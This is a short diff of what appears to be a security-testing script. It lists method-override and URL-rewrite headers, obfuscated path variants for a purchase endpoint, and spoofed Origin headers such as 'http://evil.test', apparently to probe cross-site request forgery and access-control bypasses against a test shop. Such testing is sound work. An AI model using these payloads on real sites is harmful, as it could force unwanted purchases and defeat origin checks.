@@ -21,7 +21,7 @@ OVERRIDES = ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "x-
 REROUTES = ["X-Original-URL", "X-Rewrite-URL", "x-original-url"]
 TARGETS = [f"/buy/{SKU}", f"buy/{SKU}", f"/BUY/{SKU}/", f"/b%75y/{SKU}", f"//buy//{SKU}", f"http://shop.test/buy/{SKU}",
            f"/buy/{SKU}?x=1", f"/x/../buy/{SKU}", f"/hello, /buy/{SKU}", f"/;x/buy/{SKU}", f"/index.php/buy/{SKU}",
-           "/index.php?route=checkout/confirm", f"/buy%2f{SKU}", f"\\buy\\{SKU}", "/api/buy", f"/cart/{SKU}",
+           "/index.php?route=checkout/confirm", f"/buy%2f{SKU}", f"\\buy\\{SKU}", "/api/buy",
            "/./index.php?route=checkout/confirm", "/action?do=buy"]
 ORIGINS = [["Sec-Fetch-Site: cross-site"], ["Sec-Fetch-Site: same-site"], ["Origin: null"], ["Origin: http://evil.test"],
            ["Sec-Fetch-Site: cross-site", "Origin: http://shop.test"], ["Origin: http://shop.test.evil.test"],
